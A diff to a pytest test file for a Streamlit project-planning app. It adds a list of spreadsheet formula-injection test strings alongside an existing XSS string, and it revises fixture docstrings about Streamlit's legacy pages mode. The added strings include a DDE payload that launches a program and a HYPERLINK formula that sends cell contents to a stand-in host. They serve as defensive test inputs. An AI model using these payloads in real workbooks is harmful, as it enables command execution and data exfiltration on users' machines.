@@ -20,6 +20,8 @@ PAGES = ["pages/beranda.py", "pages/impor.py", "pages/gantt.py", "pages/cakupan.
          "pages/progres.py", "pages/riwayat.py"]
 XSS = "<script>alert(1)</script>"
 BOLD = "<b>x</b>"
+# workbook text a spreadsheet would evaluate (issue 18.3)
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
 
 
 @pytest.fixture(scope="session")
@@ -86,9 +88,10 @@ def warm_pages_manager():
     """Make AppTest behave like a server that has already served app.py once (the normal state).
 
     A pages/ folder makes Streamlit start in its legacy pages-directory mode until app.py's
-    st.navigation runs once per process; AppTest re-enters that mode before *every* run, so each
-    page would first run standalone and bounce through app.py (pages/_ui.py), dropping the
-    widget change being tested.  Returns the function that undoes the patch.
+    st.navigation runs once per process (pages/_ui.leave_legacy_mode); AppTest re-enters that mode
+    before *every* run, so each run would first start the page alone and rerun it through app.py,
+    and a button press being tested would be used up by that first start (on a server no button
+    can be pressed before the mode is left).  Returns the function that undoes the patch.
     """
     import streamlit.testing.v1.app_test as app_test
     from streamlit.runtime.pages_manager import PagesManager
@@ -109,7 +112,7 @@ def warm_pages_manager():
 
 @pytest.fixture
 def warm_server():
-    """AppTest as a warm server; the cold start itself is covered by test_cold_deep_link."""
+    """AppTest as a warm server; the cold start itself is covered by test_app.py::test_cold_*."""
     undo = warm_pages_manager()
     yield
     undo()
